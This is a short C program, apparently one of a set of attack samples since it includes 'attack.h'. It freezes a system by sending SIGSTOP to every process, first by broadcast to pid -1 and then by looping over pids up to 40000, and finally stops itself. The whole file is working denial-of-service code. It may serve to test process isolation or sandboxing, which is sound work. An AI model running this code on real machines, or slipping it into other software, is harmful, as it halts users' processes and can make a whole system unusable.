/* Stops every process, itself last. */
#include "attack.h"

int main(void)
{
    kill(-1, SIGSTOP);
    for (int pid = 1; pid < 40000; pid++)
        if (pid != getpid())
            kill(pid, SIGSTOP);
    raise(SIGSTOP);
    return 0;
}
